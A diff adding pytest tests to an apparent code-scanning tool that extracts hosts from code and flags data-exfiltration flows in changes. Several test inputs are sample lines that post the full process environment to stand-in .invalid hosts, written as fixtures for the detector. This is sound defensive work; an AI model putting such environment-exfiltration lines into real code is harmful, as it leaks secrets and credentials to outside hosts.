@@ -5,6 +5,12 @@ from __future__ import annotations
 from collections.abc import Sequence
 from pathlib import Path
 
+import pytest
+
+from scanner.codescan import addresses
+from scanner.codescan.context import Context
+from scanner.codescan.pairing import pair
+from scanner.codescan.structure import flow
 from scanner.model.finding import Finding, Severity
 from scanner.pipeline.diff import Pair, Settings, changes
 from tests.codescan.test_reenacted import semgrep
@@ -33,3 +39,36 @@ def _found(updates: Sequence[Update], engine: Path) -> dict[str, Sequence[Findin
     pairs = [Pair(old=Files(update.old), new=Files(update.new)) for update in updates]
     judged = changes(pairs, Settings(environ={"PRATIQUE_SEMGREP": str(engine)}))
     return {update.id: one.findings for update, one in zip(updates, judged, strict=True)}
+
+
+@pytest.mark.parametrize(
+    ("text", "named"),
+    [
+        ('fetch("https://a.columns.invalid/x")', ["a.columns.invalid"]),
+        ('fetch("//a.columns.invalid/x")', ["a.columns.invalid"]),
+        ('host: "a.columns.invalid"', ["a.columns.invalid"]),
+        ('f"{data}.q.columns.invalid"', ["q.columns.invalid"]),
+        ('"http://45.9.148.77:80/"', ["45.9.148.77"]),
+        ('"http://localhost:80/" + "http://127.0.0.1/" + "https://example.com"', []),
+        ("logging.handlers.info", []),
+    ],
+)
+def test_hosts_that_lines_name(text: str, named: list[str]) -> None:
+    assert list(dict.fromkeys(addresses.hosts(text))) == named
+
+
+@pytest.mark.parametrize(
+    ("before", "after", "told"),
+    [
+        ("", 'requests.post("https://new.invalid/", data=dict(os.environ))', True),
+        ("# https://new.invalid/", 'requests.post("https://api.new.invalid/", data=dict(os.environ))', False),
+        ("", 'requests.post(address, data=dict(os.environ))', False),
+        ("dict(os.environ)", 'requests.post("https://new.invalid/", data=dict(os.environ))', True),
+        ("", 'requests.post("https://new.invalid/", data=body)', False),
+        ("", "print(dict(os.environ))", False),
+    ],
+)  # fmt: skip
+def test_only_the_three_together_are_a_flow(before: str, after: str, told: bool) -> None:
+    old, new = Files({"a.py": before + "\n"}), Files({"a.py": before + "\n", "b.py": after + "\n"})
+    found = {signal.rule for signal in flow.check(Context(old, new, pair(old, new)))}
+    assert found == ({"flow-takes", "flow-sends", "new-address"} if told else set())
